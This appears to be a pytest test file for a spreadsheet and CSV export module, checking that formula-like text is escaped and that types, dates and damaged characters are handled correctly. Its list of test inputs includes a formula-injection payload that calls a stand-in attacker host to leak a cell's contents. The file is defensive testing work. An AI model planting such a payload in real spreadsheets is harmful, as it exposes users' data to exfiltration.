"""The one spreadsheet writer (qa_app.documents.spreadsheet), read back as a spreadsheet would
read it: formula-like text is a string cell with the quote prefix in XLSX and behind a single
quote in CSV, numbers and dates keep their types, damaged text is written without the
characters XML cannot carry, and an over-long text is cut to what a cell holds."""

import csv
import io
import math
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from qa_app.documents.spreadsheet import (
    CELL_LIMIT,
    Look,
    Spreadsheet,
    csv_bytes,
    looks_like_formula,
    tables_xlsx,
)
from qa_app.rules.control_characters import writable

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "\n@SUM(A1)",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\u3000=1",  # an ideographic space first
    "\x07=1",  # a control character that hid the formula until it was dropped
]
HARMLESS = ["Seen alone", "1+1", "a=b", "email@example.org", "", "–", "2024-25"]


def one_cell(value):
    book = Spreadsheet()
    book.add_sheet("S").append_row([value])
    return load_workbook(io.BytesIO(book.to_bytes()))["S"]["A1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_a_text_cell_that_stays_text_when_edited(text):
    cell = one_cell(text)
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    assert cell.value == writable(text)  # the reader sees the text unchanged


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is_without_the_quote_prefix(text):
    cell = one_cell(text)
    assert cell.value == (text or None)
    assert not looks_like_formula(text)
    if text:
        assert cell.data_type == "s" and not cell.quotePrefix


def test_numbers_and_dates_keep_their_types_and_times_are_written_in_utc():
    book = Spreadsheet()
    sheet = book.add_sheet("Figures", ["n", "share", "money", "day", "when", "yes"])
    sheet.append_row(
        [-3, 0.25, Decimal("12.50"), date(2026, 4, 1), datetime(2026, 4, 1, 9, 30), True],
        formats={1: "0%"},
    )
    aware = datetime(2026, 6, 1, 10, 0, tzinfo=timezone(timedelta(hours=1)))
    sheet.append_row([float("nan"), float("inf"), None, None, aware])
    rows = load_workbook(io.BytesIO(book.to_bytes()))["Figures"]
    assert [c.value for c in rows[2]] == [
        -3,
        0.25,
        12.5,
        datetime(2026, 4, 1),
        datetime(2026, 4, 1, 9, 30),
        True,
    ]
    assert [c.data_type for c in rows[2]] == ["n", "n", "n", "d", "d", "b"]
    assert rows["B2"].number_format == "0%"
    assert rows["D2"].number_format == "yyyy-mm-dd"
    assert rows["E2"].number_format == "yyyy-mm-dd hh:mm"
    assert rows["A3"].value is None and rows["B3"].value is None  # not finite: left blank
    assert rows["E3"].value == datetime(2026, 6, 1, 10, 0)  # UK time: 09:00 UTC is 10:00 BST
    assert rows.freeze_panes == "A2"
    assert rows["A1"].font.b is True


def test_damaged_text_is_written_without_the_characters_xml_cannot_carry():
    cell = one_cell("a\ufffeb\uffff \ud800x\x07y\x00")
    assert cell.value == "ab xy"


def test_text_longer_than_a_cell_holds_is_cut_with_a_note():
    cell = one_cell("=" + "x" * (CELL_LIMIT + 10))
    assert len(cell.value) == CELL_LIMIT
    assert cell.value.endswith("a spreadsheet cell holds at most 32,767 characters]")
    assert cell.quotePrefix is True


def test_looks_and_widths_and_written_cells():
    book = Spreadsheet(title="=Plan\ufffe", creator="Practice QA")
    sheet = book.add_sheet("A [bad]: name/that is far too long for Excel")
    sheet.write(1, 1, "Title", look=Look(bold=True, size=14))
    sheet.write(3, 2, "=1", look=Look(colour="FFFFFF", fill="1D70B8", wrap=True))
    assert sheet.append_row(["after"]) == 4
    sheet.fit_widths(["a", "b"], [["x" * 100, "yy"]], maximum=50)
    read = load_workbook(io.BytesIO(book.to_bytes()))
    assert read.sheetnames == ["A bad name that is far too long"]
    assert read.properties.title == "=Plan"
    sheet = read.active
    assert sheet["A1"].font.sz == 14 and sheet["A1"].font.b
    b3 = sheet["B3"]
    assert (b3.data_type, b3.quotePrefix, b3.fill.fgColor.rgb[-6:]) == ("s", True, "1D70B8")
    assert b3.alignment.wrap_text and b3.font.color.rgb[-6:] == "FFFFFF"
    assert sheet["A4"].value == "after"
    assert sheet.column_dimensions["A"].width == 50
    assert sheet.column_dimensions["B"].width == 4


def test_tables_have_a_bold_frozen_header_per_sheet():
    data = tables_xlsx({"One": [["h1", "h2"], ["=1", 2]], "Two": [["only"]]})
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["One", "Two"]
    assert book["One"]["A1"].font.b and book["One"].freeze_panes == "A2"
    assert book["One"]["A2"].quotePrefix and book["One"]["B2"].value == 2


def test_csv_puts_a_quote_before_formula_like_text_only():
    rows = [["text", "n", "day", "when"]]
    when = datetime(2026, 4, 1, 9, 30, tzinfo=UTC)
    rows += [[text, 7, date(2026, 4, 1), when] for text in FORMULAS]
    rows += [[text, -1.5, None, None] for text in HARMLESS]
    read = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"), newline="")))
    for text, row in zip(FORMULAS, read[1 : 1 + len(FORMULAS)], strict=True):
        assert row == ["'" + writable(text), "7", "2026-04-01", "2026-04-01 10:30"]  # BST
    for text, row in zip(HARMLESS, read[1 + len(FORMULAS) :], strict=True):
        assert row == [text, "-1.5", "", ""]
    assert csv_bytes([["a\ufffeb\ud800"]]).startswith(b"\xef\xbb\xbfab")


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.text(max_size=60))
def test_any_text_is_read_back_as_its_writable_text_never_a_formula(text):
    cell = one_cell(text)
    expected = writable(text)
    assert cell.data_type != "f"
    assert cell.value == (expected or None)
    if expected:
        assert cell.data_type == "s"
        assert bool(cell.quotePrefix) == looks_like_formula(expected)


@settings(max_examples=200, deadline=None)
@given(
    st.one_of(
        st.integers(min_value=-(10**15), max_value=10**15),
        st.floats(min_value=-1e300, max_value=1e300),  # Excel holds up to 1e308
    )
)
def test_any_number_is_read_back_as_the_same_number(number):
    """The same number, to the 15 significant digits Excel keeps (openpyxl writes 16)."""
    cell = one_cell(number)
    assert cell.data_type == "n" and isinstance(cell.value, int | float)
    assert math.isclose(cell.value, number, rel_tol=1e-15, abs_tol=1e-300)
